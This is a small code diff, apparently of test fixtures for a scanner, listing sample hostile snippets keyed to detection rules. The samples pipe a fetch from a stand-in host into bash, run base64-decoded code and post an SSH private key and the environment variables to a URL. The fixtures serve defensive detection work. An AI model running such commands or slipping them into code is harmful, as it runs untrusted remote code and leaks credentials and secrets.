@@ -47,7 +47,7 @@ SCRIPTS = {
     "a shell of a fetch": ("files.runs-what-it-fetches", 'bash -c "$(curl -fsSL https://e.example)"'),
     "decoded code": ("files.runs-what-it-fetches", "exec(base64.b64decode(x))"),
     "decoded in a shell": ("files.runs-what-it-fetches", "echo aGk= | base64 -d | sh"),
-    "keys": ("files.secrets-out", "import requests\nrequests.post(u, data=open('/root/.ssh/id_rsa'))"),
+    "keys": ("files.secrets-out", "import requests\nrequests.post(u, data=open('/home/ann/.ssh/id_rsa'))"),
     "the environment": ("files.secrets-out", "import httpx\nhttpx.post(u, json=dict(os.environ))"),
 }
 
